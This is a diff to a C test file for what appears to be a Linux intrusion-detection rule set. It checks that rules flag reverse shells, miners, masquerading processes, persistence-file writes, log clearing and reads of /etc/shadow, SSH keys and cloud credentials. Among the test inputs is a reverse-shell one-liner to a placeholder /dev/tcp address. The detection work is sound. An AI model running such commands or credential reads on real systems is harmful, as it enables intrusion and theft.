@@ -11,10 +11,12 @@ static struct profile *profile;
 /* What happened; the rest is as in an ordinary shell with a terminal. */
 struct scene {
 	enum kwp_type type;
-	const char *executable, *name, *parent, *parent_name, *script, *path;
-	const char *io; /* of fds 0 to 2: 't'ty, 's'ocket, 'u'nix socket, 'p'ipe */
+	const char *executable, *name, *parent, *parent_name, *script, *path, *target;
+	const char *args; /* joined by blanks */
+	const char *io;	  /* of fds 0 to 2: 't'ty, 's'ocket, 'u'nix socket, 'p'ipe */
 	unsigned accepted, unlinked, mount, exec_session;
-	unsigned magic;
+	unsigned magic, uid, file_mode;
+	unsigned long long flags, mode; /* of an act on a file */
 };
 
 #define TMPFS 0x01021994
@@ -42,6 +44,21 @@ static struct kwp_stdio stdio_make(const struct scene *scene)
 	return io;
 }
 
+static void process_args(struct process *process, const struct scene *scene)
+{
+	static char args[500], line[500];
+
+	if (!scene->args)
+		return;
+	snprintf(line, sizeof(line), "%s", scene->args);
+	process->args_size = snprintf(args, sizeof(args), "%s", line) + 1;
+	for (char *c = args; *c; c++)
+		if (*c == ' ')
+			*c = '\0';
+	process->args = args;
+	process->command_line = line;
+}
+
 /* Ids of the rules that see it, each with a space. */
 static const char *found(struct scene scene)
 {
@@ -54,22 +71,32 @@ static const char *found(struct scene scene)
 	struct kwp_exec exec = {.io = stdio_make(&scene)};
 	struct kwp_net net = {.io = stdio_make(&scene), .family = AF_INET};
 	struct kwp_dup dup = {.io = stdio_make(&scene)};
+	struct kwp_file_act act = {.flags = scene.flags, .mode = scene.mode, .fd = -1};
 	struct kwp_record record = {.type = (unsigned short)scene.type};
 	struct event event = {.record = &record, .process = &process, .facts = &net};
 	const char *path = scene.path ? scene.path : scene.executable;
 
+	process.uid = scene.uid;
+	process_args(&process, &scene);
 	snprintf(process.comm, sizeof(process.comm), "%s", scene.name);
 	snprintf(parent.comm, sizeof(parent.comm), "%s", scene.parent_name ?: "bash");
 	exec.file = (struct kwp_file){.links = !scene.unlinked,
 				      .flags = scene.mount,
 				      .magic = scene.magic ?: 0xef53,
-				      .mode = 0100755,
+				      .mode = scene.file_mode ?: 0100755,
 				      .inode = 9};
 	if (scene.type == KWP_EXEC) {
 		event.facts = &exec;
 		event.path = (struct text){path, strlen(path)};
 	} else if (scene.type == KWP_DUP) {
 		event.facts = &dup;
+	} else if (event_is_file(scene.type)) {
+		act.file = exec.file;
+		event.facts = &act;
+		if (scene.path)
+			event.path = (struct text){scene.path, strlen(scene.path)};
+		if (scene.target)
+			event.target_path = (struct text){scene.target, strlen(scene.target)};
 	}
 	ids[0] = '\0';
 	for (size_t i = 0; i < profile->rules_count; i++) {
@@ -101,7 +128,7 @@ static void test_reverse_shell(void)
 	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "sh", .io = "sss"),
 		  "reverse-shell ");
 	CHECK_STR(FOUND(KWP_EXEC, .executable = "/bin/busybox", .name = "nc", .io = "sss"),
-		  "reverse-shell ");
+		  "reverse-shell net-tool ");
 	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x", .io = "sss"),
 		  "exec-on-socket ");
 }
@@ -111,7 +138,6 @@ static void test_not_reverse_shell(void)
 	CHECK_STR(FOUND(KWP_EXEC, BASH), "");
 	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "ppp"), "");
 	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "uuu"), "");
-	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt"), "");
 	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "tss"), "");
 	CHECK_STR(FOUND(KWP_DUP, .executable = "/usr/bin/ssh", .name = "ssh", .io = "sss"), "");
 	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/sbin/sshd", .name = "sshd", .io = "sst"), "");
@@ -194,6 +220,117 @@ static void test_session(void)
 	CHECK_STR(FOUND(KWP_EXEC, BASH, .exec_session = 1), "exec-session ");
 }
 
+#define SH .executable = "/usr/bin/dash", .name = "sh"
+#define CAT .executable = "/usr/bin/cat", .name = "cat"
+
+static void test_code(void)
+{
+	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt", .args = "bash"), "script-from-network ");
+	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt", .args = "bash -c ls"), "");
+	CHECK_STR(FOUND(KWP_EXEC, BASH, .io = "stt", .accepted = 1), "");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/perl", .name = "perl",
+			.args = "perl /proc/self/fd/3"),
+		  "script-from-memory ");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/cat", .name = "cat",
+			.args = "cat /proc/self/fd/3"),
+		  "");
+	CHECK_STR(FOUND(KWP_MPROTECT, .executable = "/tmp/x", .name = "x", .mode = 5),
+		  "memory-executable ");
+	CHECK_STR(FOUND(KWP_MPROTECT, .executable = "/usr/bin/node", .name = "node", .mode = 5),
+		  "");
+	CHECK_STR(FOUND(KWP_MMAP_EXEC, CAT, .path = "/memfd:x", .mode = 5, MEMFD),
+		  "memory-file-mapped ");
+	CHECK_STR(FOUND(KWP_MMAP_EXEC, CAT, .path = "/usr/lib/libc.so.6", .mode = 5), "");
+}
+
+static void test_words_of_commands(void)
+{
+	CHECK_STR(FOUND(KWP_EXEC, SH, .args = "sh -i >& /dev/tcp/1.2.3.4/5"), "shell-one-liner ");
+	CHECK_STR(FOUND(KWP_EXEC, SH, .args = "sh -c echo >/dev/tcp/1.2.3.4/5"), "");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x",
+			.args = "x -o stratum+tcp://pool:3333"),
+		  "miner ");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/tmp/x", .name = "x", .args = "[kworker/0:1]"),
+		  "masquerade ");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/sleep", .name = "sleep",
+			.args = "/usr/sbin/sshd 8"),
+		  "masquerade ");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/sbin/sshd", .name = "sshd",
+			.args = "/usr/sbin/sshd -D"),
+		  "");
+	CHECK_STR(
+		FOUND(KWP_EXEC, .executable = "/usr/bin/shred", .name = "shred", .args = "shred x"),
+		"data-destroyed ");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/base64", .name = "base64",
+			.args = "base64 -d"),
+		  "decode-payload ");
+	CHECK_STR(FOUND(KWP_EXEC, .executable = "/usr/bin/base64", .name = "base64",
+			.args = "base64 x"),
+		  "");
+}
+
+#define WRITES .flags = 01 /* O_WRONLY */
+
+static void test_changes(void)
+{
+	static const struct {
+		const char *path, *rule;
+	} changed[] = {
+		{"/etc/cron.d/x", "cron-changed "},
+		{"/var/spool/cron/crontabs/root", "cron-changed "},
+		{"/etc/systemd/system/x.service", "startup-changed "},
+		{"/etc/init.d/x", "startup-changed "},
+		{"/root/.bashrc", "shell-startup-changed "},
+		{"/etc/ld.so.preload", "loader-changed "},
+		{"/home/u/.ssh/authorized_keys", "ssh-changed "},
+		{"/etc/passwd", "accounts-changed "},
+		{"/etc/sudoers.d/x", "login-changed "},
+		{"/etc/hosts", "trust-changed "},
+		{"/usr/bin/ls", "program-changed "},
+		{"/usr/lib/x86_64-linux-gnu/libc.so.6", "program-changed "},
+		{"/etc/rsyslog.conf", "log-config-changed "},
+		{"/tmp/x", ""},
+		{"/srv/etc/passwd", ""},
+		{"/var/log/syslog", ""},
+	};
+
+	for (size_t i = 0; i < ARRAY_SIZE(changed); i++) {
+		const char *path = changed[i].path;
+
+		CHECK_STR(FOUND(KWP_OPEN, CAT, .path = path, WRITES), changed[i].rule);
+		CHECK_STR(FOUND(KWP_CREATE, CAT, .path = path), changed[i].rule);
+		CHECK_STR(FOUND(KWP_RENAME, CAT, .path = "/tmp/y", .target = path),
+			  changed[i].rule);
+		CHECK_STR(FOUND(KWP_OPEN, CAT, .path = path), "");
+		CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/dpkg", .name = "dpkg",
+				.path = path, WRITES),
+			  "");
+	}
+	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/var/log/syslog", .flags = 01001), "log-cleared ");
+	CHECK_STR(FOUND(KWP_UNLINK, CAT, .path = "/root/.bash_history"), "history-cleared ");
+	CHECK_STR(FOUND(KWP_CHMOD, CAT, .path = "/tmp/x", .mode = 04755), "setuid-bit ");
+	CHECK_STR(FOUND(KWP_CHMOD, CAT, .path = "/tmp/x", .mode = 01777), "");
+	CHECK_STR(FOUND(KWP_CHMOD, CAT, .path = "/tmp/x", .mode = 0755), "");
+}
+
+static void test_reads(void)
+{
+	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/etc/shadow"), "passwords-read ");
+	CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/su", .name = "su", .path = "/etc/shadow"),
+		  "");
+	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/root/.ssh/id_rsa"), "keys-read ");
+	CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/ssh", .name = "ssh",
+			.path = "/root/.ssh/id_rsa"),
+		  "");
+	CHECK_STR(FOUND(KWP_OPEN, CAT, .path = "/root/.aws/credentials"), "credentials-read ");
+	CHECK_STR(FOUND(KWP_OPEN, .executable = "/usr/bin/aws", .name = "aws",
+			.path = "/root/.aws/credentials"),
+		  "");
+	CHECK_STR(FOUND(KWP_OPEN, CAT,
+			.path = "/run/secrets/kubernetes.io/serviceaccount/..data/token"),
+		  "pod-token-read ");
+}
+
 /* Each rule is ready for people: a title, a technique, a message, false positives. */
 static void test_words(void)
 {
@@ -220,6 +357,10 @@ int main(void)
 		test_deleted();
 		test_server();
 		test_session();
+		test_code();
+		test_words_of_commands();
+		test_changes();
+		test_reads();
 		test_words();
 	}
 	profile_free(profile);
